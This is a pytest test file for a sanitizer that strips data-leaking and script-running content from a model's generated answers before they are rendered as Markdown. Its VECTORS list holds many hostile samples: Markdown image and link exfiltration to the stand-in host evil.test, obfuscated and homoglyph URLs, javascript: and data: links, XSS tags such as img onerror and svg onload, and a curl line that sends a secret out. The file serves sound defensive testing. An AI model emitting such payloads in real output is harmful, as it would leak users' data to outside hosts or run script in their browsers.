"""What a model could send out through its answer: no page that shows it may fetch, follow or run anything of its making.

Each vector goes through the sanitizer alone, as a piece of the stream does, and is then drawn as pages draw Markdown
(HTML let through): what is left must name no host but those of the sources, and hold no tag that acts.
"""

import re

import pytest
from markdown_it import MarkdownIt

from tests.support.states import passage
from weiwo.nodes.shared.prompting.sanitizer import AnswerSanitizer

KNOWN = "https://docs.example.org/api?x=1"
VECTORS = [
    "![a](https://evil.test/p.png?d=S3CRET)",
    "![a](<https://evil.test/p.png?d=S3CRET>)",
    '![a](https://evil.test/p.png?d=S3CRET "title")',
    "![a](\nhttps://evil.test/p.png?d=S3CRET\n)",
    "![a][ref] and more\n\n[ref]: https://evil.test/S3CRET",
    "![ref]\n\n[ref]:\nhttps://evil.test/S3CRET",
    "![a [b] c](https://evil.test/S3CRET)",
    "[![a](https://evil.test/S3CRET)](https://evil.test/2)",
    "[click](https://evil.test/S3CRET)",
    "[click](https://evil.test/c?d=(S3CRET))",
    "[click](https://evil.test/c?d=)S3CRET)",
    "(https://evil.test/c?d=)S3CRET",
    "[click](https://evil.test/((a)b)S3CRET)",
    "[click](HTTPS://EVIL.test/S3CRET)",
    "[click](//evil.test/S3CRET)",
    "[click](\\\\evil.test/S3CRET)",
    "[click](https:\\\\evil.test/S3CRET)",
    "[click](https&#58;//evil.test/S3CRET)",
    "[click](&#104;ttps://evil.test/S3CRET)",
    "[click](&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;&#101;vil&#46;test&#47;S3CRET)",
    "[click](h&#116;tps&colon;&sol;&sol;&#101;vil.test/S3CRET)",
    "[a]: h&#116;tps&colon;&sol;&sol;&#101;vil.test/S3CRET\n\n[a]",
    "[click](https://evil\u200b.test/S3CRET)",
    "[cl\u2060ick](ht\u200dtps://evil.test/S3CRET)",
    "[click](https://xn--80ak6aa92e.test/S3CRET)",
    "[click](https://еvil.test/S3CRET)",
    "[click](javascript:alert('S3CRET'))",
    "[click](java\tscript:alert('S3CRET'))",
    "[click](data:text/html;base64,UzNDUkVU)",
    "[click](data:text/html,<script>S3CRET</script>)",
    "[click](mailto:x@evil.test?body=S3CRET)",
    "[click](vbscript:msgbox(1))",
    "[click](ftp://evil.test/S3CRET)",
    "<https://evil.test/S3CRET>",
    "https://evil.test/S3CRET",
    "www.evil.test/S3CRET",
    "https://user:S3CRET@evil.test/",
    f"{KNOWN}&d=S3CRET",
    f"{KNOWN}\u200bS3CRET",
    f"{KNOWN}%0AS3CRET",
    f"{KNOWN})S3CRET",
    f"[click]({KNOWN}&d=S3CRET)",
    "https://docs.example.org@evil.test/S3CRET",
    "https://docs.example.org.evil.test/S3CRET",
    '<img src="https://evil.test/S3CRET">',
    "<img src=//evil.test/S3CRET>",
    '<img srcset="//evil.test/S3CRET 1x">',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<div style=background:url(//evil.test/S3CRET)>x</div>",
    '<x-y src="//evil.test/S3CRET">',
    "<script>fetch('//evil.test/S3CRET')</script>",
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'>",
    "<a\nhref='//evil.test/S3CRET'>x</a>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "```x``` <img src=x onerror=alert(1)>",
    "` <script>alert(1)</script>",
    "\\` <script>alert(1)</script> `",
    "`a `` b` <script>alert(1)</script> `` c",
    "`a`\n<script>alert(1)</script>\n`b`",
    "- ```\n<img src=x onerror=alert(1)>\n  ```",
    "   ```\n<img src=x onerror=alert(1)>\n   ```",
    "    - <img src=x onerror=alert(1)>",
    "```\ncurl https://evil.test/S3CRET\n```",
    "`curl https://evil.test/S3CRET`",
    "| a | b |\n|---|---|\n| ![x](https://evil.test/S3CRET) | [y](//evil.test/S3CRET) |",
    "| `a | b |\n|---|---|\n| <script>alert(1)</script> | c` |",
    "## Head ![x](https://evil.test/S3CRET)",
    "> [x](https://evil.test/S3CRET)",
    "[^1]: https://evil.test/S3CRET",
    "[a]: <https://evil.test/S3CRET>\n\n[a]",
    "[a]: //evil.test/S3CRET\n\n[a]",
    "[a]: /\\evil.test/S3CRET\n\n[a]",
    "[a]:\n  javascript:alert(1)\n\n[a]",
    "<!-- https://evil.test/S3CRET -->",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/S3CRET'>",
    "<link rel=stylesheet href=//evil.test/S3CRET>",
    "\x1b]8;;https://evil.test/S3CRET\x07click\x1b]8;;\x07",
    "\u202ehttps://evil.test/S3CRET\u202c",
]
ACTING = re.compile(
    r"<(?:script|img|iframe|object|embed|svg|base|meta|link|form|style|video|audio)\b|\son[a-z]+\s*=|javascript:"
    r"|(?:src|href|action)\s*=\s*[\"']?(?!https://docs\.example\.org/api\?x=1[\"'])[^\"'#>\s]",
    re.IGNORECASE,
)


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("frame", ["{}", "Aurora costs 20 euros [1]. {} Then more [2].", "中文，{}。"])
def test_nothing_is_fetched_followed_or_run(vector: str, frame: str) -> None:
    say = AnswerSanitizer([passage(f"See {KNOWN} for it.", "docs.md", "Docs")], "What is it?", "en")
    said = say(frame.format(vector))
    drawn = MarkdownIt("commonmark", {"html": True}).enable("table").render(said)
    assert "evil" not in said.lower(), said
    assert "S3CRET" not in drawn or "href" not in drawn, (said, drawn)
    assert ACTING.search(drawn.replace("&lt;", "&lt; ")) is None, (said, drawn)


def test_what_stands_in_code_of_a_source_stays() -> None:
    say = AnswerSanitizer([passage(f"See {KNOWN} for it.", "docs.md", "Docs")], "What is it?", "en")
    code = f'```python\nget("{KNOWN}")[0]  # <script> and [x](/y)\n```\n\n'
    assert say(code) == code
    assert say("Put it in a `<script>` tag [1].") == "Put it in a `<script>` tag [1]."
    assert say("   ```html\n   <img>\n   ```\n") == "   ```html\n   <img>\n   ```\n"


@pytest.mark.parametrize("text", ["$$\n", "| – | – |\n", "---\n\n", "* * *\n"])
def test_signs_alone_stay(text: str) -> None:
    assert AnswerSanitizer((), "?", "en")(text) == text
